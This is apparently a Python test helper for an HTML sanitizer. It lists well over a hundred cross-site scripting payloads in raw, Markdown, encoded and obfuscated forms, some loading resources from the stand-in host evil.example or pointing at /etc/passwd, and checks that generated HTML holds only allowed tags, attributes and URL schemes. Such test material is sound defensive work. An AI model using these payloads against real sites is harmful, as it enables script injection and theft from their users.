"""What people try to smuggle into pages, and what must not be found in any HTML that we make."""

import re
from html.parser import HTMLParser

# as they are, in Markdown, in attributes, broken, spelled oddly, nested, for old browsers
STRINGS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<script>alert(1)//
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script\x20type="text/javascript">alert(1)</script>
<script>/*</script><svg onload=alert(1)>*/
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</p><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--<script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"/>
<img src=x:alert(1) onerror=eval(src)>
<img/src='x'/onerror=alert(1)>
<IMG SRC=javascript:alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert(1)`>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC=" &#14; javascript:alert(1);">
<IMG LOWSRC="javascript:alert(1)">
<IMG DYNSRC="javascript:alert(1)">
<img srcset="x 1x, javascript:alert(1) 2x">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><input autofocus>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<iframe onload=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<embed src="//evil.example/x.swf" allowscriptaccess=always>
<applet code="x.class" archive="//evil.example/x.jar">
<link rel=stylesheet href=//evil.example/x.css>
<link rel="import" href="//evil.example/x.html">
<link rel=preload as=script href=//evil.example/x.js onload=alert(1)>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<base href=//evil.example/>
<style>@import'//evil.example/x.css';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<div style="background-image:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div style="behavior:url(//evil.example/x.htc)">
<div style="position:fixed;top:0;left:0;width:100%;height:100%">all of it</div>
<p style="-moz-binding:url(//evil.example/x.xml#x)">
<div onmouseover="alert(1)">x</div>
<div onpointerenter=alert(1)>x</div>
<div/onclick=alert(1)>x</div>
<div tabindex=1 onfocus=alert(1) autofocus id=x>
<div id="x" class="admin-only" name="forms">clobbered</div>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<video src=x onerror=alert(1)>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//>
<audio src=x onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<input type=image src=javascript:alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button formaction=javascript:alert(1)>x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<isindex action=javascript:alert(1) type=image>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="x" onclick="alert(1)">x</a>
<a href="//evil.example" target="_blank" onmouseover=alert(1)>x</a>
<a href="javascript&colon;alert(1)" style="x:y" id=x class=x>x</a>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<td onmouseover=alert(1)>x</td>
<u onclick=alert(1)>x</u>
<br onclick=alert(1)>
<strong style="x:expression(alert(1))">x</strong>
<em/onmouseover=alert(1)>x</em>
<u><script>alert(1)</script></u>
<u></u onclick=alert(1)>
<br/onclick=alert(1)/>
<xss onafterscriptexecute=alert(1)><script>1</script>
<x contenteditable onblur=alert(1)>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<plaintext onclick=alert(1)>
<xmp><script>alert(1)</script></xmp>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript://x%0aalert(1))
[x](javascript:alert(1) "title")
[x](<javascript:alert(1)>)
[x](java	script:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#x1;javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](http://a" onmouseover="alert(1))
[x](http://a 'x" onmouseover="alert(1)')
[x](http://a "&quot; onmouseover=&quot;alert(1)")
[x](file:///etc/passwd)
[x](blob:https://a/1)
[x](filesystem:https://a/1)
![x](javascript:alert(1))
![x](x"onerror="alert(1))
![" onerror="alert(1)](x)
![x](https://evil.example/pixel.png)
<javascript:alert(1)>
<data:text/html,<script>alert(1)</script>>
<http://a/"onmouseover="alert(1)>
<a@b.c"onmouseover="alert(1)>
[x]: javascript:alert(1)
[<img src=x onerror=alert(1)>](http://a)
[a](http://a)[b](javascript:alert(1))
**<img src=x onerror=alert(1)>**
`<img src=x onerror=alert(1)>`
```<script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
# <svg onload=alert(1)>
|<script>alert(1)</script>|<img src=x onerror=alert(1)>|
    <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;alert(1)
\<script>alert(1)\</script>
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
${alert(1)}<%= 7*7 %>{{7*7}}#{7*7}
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
"><svg onload=alert(1)>
'><script>alert(1)</script>
javascript:alert(1)
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//</scRipt/--!><sVg/oNloAd=alert(1)//>
'''.strip("\n").split("\n")

# what Markdown that we show may consist of; the pages and letters have tags of their own
SHOWN = frozenset(
    (
        *("p", "br", "strong", "em", "u", "a", "code", "pre", "ul", "ol", "li", "blockquote", "hr"),
        *("h1", "h2", "h3", "h4", "h5", "h6"),
        *("table", "thead", "tbody", "tr", "th", "td"),
    )
)
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Reading(HTMLParser):
    """The tags and attributes of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("<!-- -->", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("<!>", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("<? ?>", {}))


def require_harmless(html: str, tags: frozenset[str] = SHOWN) -> None:
    """Raises AssertionError where HTML holds any tag but these, or an attribute but those of links,
    or leads to a script.
    """
    for tag, attributes in Reading(html).tags:
        assert tag in tags, html
        allowed = {"href", "title", "rel"} if tag == "a" else set()
        assert attributes.keys() <= allowed, html
        if tag == "a":
            assert attributes.get("rel") == "nofollow noopener", html
            address = re.sub(r"[\x00-\x20\x7f]", "", attributes.get("href", ""))
            scheme = _SCHEME.match(address)
            assert not scheme or scheme[1].lower() in {"http", "https", "mailto"}, html
